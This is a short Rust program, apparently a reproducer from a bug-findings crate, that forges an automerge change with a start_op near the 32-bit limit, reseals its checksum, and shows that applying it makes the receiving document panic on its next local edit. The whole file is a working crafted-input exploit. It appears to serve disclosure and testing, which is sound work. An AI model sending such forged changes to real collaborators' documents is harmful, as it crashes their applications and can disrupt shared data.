// SPDX-License-Identifier: EUPL-1.2
//! A change that begins near the greatest operation number is applied; the next local edit panics.

use std::panic::{AssertUnwindSafe, catch_unwind};

use automerge::transaction::Transactable;
use automerge::{ActorId, AutoCommit, Change, ROOT};
use automerge_findings::sealed;

fn main() {
    std::panic::set_hook(Box::new(|_| {}));
    let mut author = AutoCommit::new().with_actor(ActorId::from([1; 16]));
    author.put(ROOT, "key", 1).expect("a value");
    author.commit();
    let bytes = author.get_changes(&[])[0].raw_bytes().to_vec();
    // Magic, checksum, type, length; then no dependencies, the actor (17 bytes with its length), seq 1, start_op 1.
    let start = 10 + 1 + 17 + 1;
    assert_eq!(bytes[start], 1, "start_op stands here");
    for start_op in [u64::from(u32::MAX) - 1, u64::from(u32::MAX), u64::from(u32::MAX) + 1] {
        let mut body = bytes[10..].to_vec();
        body.splice(start - 10..=start - 10, leb(start_op));
        let forged = sealed([&bytes[..9], &leb(body.len() as u64), &body].concat());
        let outcome = catch_unwind(AssertUnwindSafe(|| {
            let mut doc = AutoCommit::new().with_actor(ActorId::from([2; 16]));
            doc.apply_changes([Change::from_bytes(forged).expect("taken")]).expect("applied");
            let again = catch_unwind(AssertUnwindSafe(|| {
                doc.put(ROOT, "mine", 2).expect("a value");
                doc.commit();
                AutoCommit::load(&doc.save()).is_ok()
            }));
            again.map_err(|_| "the next local edit panics")
        }));
        println!("start_op {start_op}: {outcome:?}");
    }
}

fn leb(mut number: u64) -> Vec<u8> {
    let mut bytes = Vec::new();
    loop {
        let byte = (number & 0x7f) as u8;
        number >>= 7;
        if number == 0 {
            bytes.push(byte);
            return bytes;
        }
        bytes.push(byte | 0x80);
    }
}
